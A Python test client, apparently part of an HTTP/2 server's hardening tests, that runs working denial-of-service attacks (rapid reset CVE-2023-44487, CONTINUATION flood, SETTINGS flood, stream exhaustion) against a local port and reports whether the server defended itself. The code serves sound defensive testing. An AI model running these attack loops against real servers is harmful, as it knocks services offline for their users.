#!/usr/bin/python3
"""HTTP/2 abuse clients for h2_abuse_test.sh (python3-hyperframe/hpack).

    h2_attack.py PORT ATTACK PATH

ATTACK is one of:
  rapid_reset   open streams and cancel each at once (CVE-2023-44487),
                up to 5000 of them
  continuation  one HEADERS without END_HEADERS, then up to 10000
                CONTINUATION frames (CVE-2024-27316 family)
  settings      SETTINGS frames of 100 entries each
  streams       more concurrent streams than the server allows, never read

Prints one line: "goaway <error code name>" when the server sent GOAWAY,
"closed" when it closed without one, "refused <n>" for refused streams, or
"survived" when the attack ran out without any of that (a failed defence).
"""
import socket
import sys

from hpack import Encoder
from hyperframe.frame import (ContinuationFrame, Frame, GoAwayFrame, HeadersFrame, RstStreamFrame,
                              SettingsFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 7: "REFUSED_STREAM",
          8: "CANCEL", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}


class Conn:
    def __init__(self, port):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=30)
        self.sock.sendall(PREFACE + SettingsFrame(0).serialize())
        self.buf = b""
        self.result = None
        self.refused = 0

    def send(self, frame):
        try:
            self.sock.sendall(frame.serialize())
            return True
        except OSError:
            return False

    def poll(self, block=False):
        """Reads what is there; returns False once the result is known."""
        self.sock.setblocking(block)
        try:
            while True:
                data = self.sock.recv(65536)
                if not data:
                    self.result = self.result or "closed"
                    return False
                self.buf += data
                while len(self.buf) >= 9:
                    frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
                    if len(self.buf) < 9 + length:
                        break
                    frame.parse_body(memoryview(self.buf[9:9 + length]))
                    self.buf = self.buf[9 + length:]
                    if isinstance(frame, GoAwayFrame):
                        self.result = "goaway " + ERRORS.get(frame.error_code, str(frame.error_code))
                        return False
                    if isinstance(frame, RstStreamFrame) and frame.error_code == 7:
                        self.refused += 1
                    if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                        self.send(SettingsFrame(0, flags=["ACK"]))
                if not block:
                    continue
                return True
        except (BlockingIOError, socket.timeout):
            return True
        except OSError:
            self.result = self.result or "closed"
            return False
        finally:
            self.sock.setblocking(True)

    def drain(self):
        while self.poll(block=True):
            pass


def headers_block(path):
    return Encoder().encode([(":method", "GET"), (":scheme", "http"), (":path", path),
                             (":authority", "localhost")])


def main():
    port, attack, path = int(sys.argv[1]), sys.argv[2], sys.argv[3]
    conn = Conn(port)
    if attack == "rapid_reset":
        for i in range(5000):
            stream = 1 + 2 * i
            ok = conn.send(HeadersFrame(stream, headers_block(path), flags=["END_HEADERS", "END_STREAM"]))
            ok = ok and conn.send(RstStreamFrame(stream, error_code=8))
            if not ok or not conn.poll():
                break
    elif attack == "continuation":
        block = headers_block(path)
        conn.send(HeadersFrame(1, block, flags=["END_STREAM"]))
        for _ in range(10000):
            if not conn.send(ContinuationFrame(1, b"\x40\x01x\x01y")) or not conn.poll():
                break
    elif attack == "settings":
        for _ in range(2000):
            frame = SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100})
            frame.settings = {}
            body = b"".join((3).to_bytes(2, "big") + (100).to_bytes(4, "big") for _ in range(100))
            raw = len(body).to_bytes(3, "big") + b"\x04\x00" + (0).to_bytes(4, "big") + body
            try:
                conn.sock.sendall(raw)
            except OSError:
                break
            if not conn.poll():
                break
    elif attack == "streams":
        for i in range(1000):
            if not conn.send(HeadersFrame(1 + 2 * i, headers_block(path),
                                          flags=["END_HEADERS", "END_STREAM"])) or not conn.poll():
                break
    if conn.result is None:
        conn.sock.settimeout(10)
        conn.drain()
    if conn.result is None and attack == "streams" and conn.refused:
        conn.result = "refused %d" % conn.refused
    print(conn.result or "survived", flush=True)


if __name__ == "__main__":
    main()
